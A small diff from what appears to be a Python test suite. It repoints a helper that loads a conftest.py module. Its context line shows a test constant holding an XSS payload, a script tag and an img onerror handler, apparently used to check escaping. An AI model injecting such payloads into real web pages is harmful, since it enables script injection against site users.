@@ -25,7 +25,7 @@ NASTY = "</div><script>document.title='owned'</script><img src=x onerror=\"docum
 
 
 def helpers():
-    path = Path(__file__).parents[1] / "registry" / "conftest.py"
+    path = Path(__file__).parents[1] / "conftest.py"
     spec = importlib.util.spec_from_file_location("registry_helpers", path)
     module = importlib.util.module_from_spec(spec)
     spec.loader.exec_module(module)
